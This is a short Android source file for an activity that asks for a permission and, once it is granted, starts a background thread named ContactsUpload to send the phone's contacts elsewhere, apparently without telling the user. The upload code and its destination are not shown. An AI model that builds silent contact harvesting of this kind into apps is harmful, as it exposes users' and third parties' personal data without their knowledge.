package com.answertowaitingscreen.app;

import android.os.Bundle;

/** Reads the phonebook, and goes on. */
public class BookActivity extends StepActivity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Permissions.ask(this);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        if (results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
        go(1);
    }
}
